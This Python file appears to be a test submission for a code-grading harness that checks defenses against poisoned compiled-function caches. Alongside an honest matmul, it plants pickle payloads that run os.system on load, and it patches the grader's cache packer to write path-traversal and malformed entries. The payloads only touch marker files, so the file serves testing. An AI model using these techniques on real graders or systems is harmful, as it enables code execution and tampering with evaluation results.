"""Leaves files in the cache of compiled functions that run code in whoever reads them, with names that lead out of it.

covers = ["poisoned Numba or Cython caches"]
task = "matmul"
verdict = "ACCEPTED"
honest = "numpy"
"""

import os
import pickle
import stat
import struct

import grader.worker.numba_cache as cache


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/attack-mark-cache",)


folder = os.environ.get("NUMBA_CACHE_DIR", "/tmp/numba-cache")
for name in ("matmul_0/matmul.matmul-1.py311.nbi", "matmul_0/matmul.matmul-1.py311.1.nbc", "index.pickle"):
    path = os.path.join(folder, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as file:
        file.write(pickle.dumps("0.60") + pickle.dumps(Payload()) * 4)


def packed(_folder):
    """What is kept for the next run: names that climb out, a length that lies, a payload."""
    body = pickle.dumps(Payload())
    entries = b""
    for name in (b"../../../../tmp/attack-mark-climbed", b"/tmp/attack-mark-absolute", b"\xff\xfe", b"submission/matmul.py"):
        entries += struct.pack("<II", len(name), len(body)) + name + body
    return entries + struct.pack("<II", 1 << 31, 1 << 31) + b"x"


cache.pack = packed


def matmul(a, b):
    return a @ b
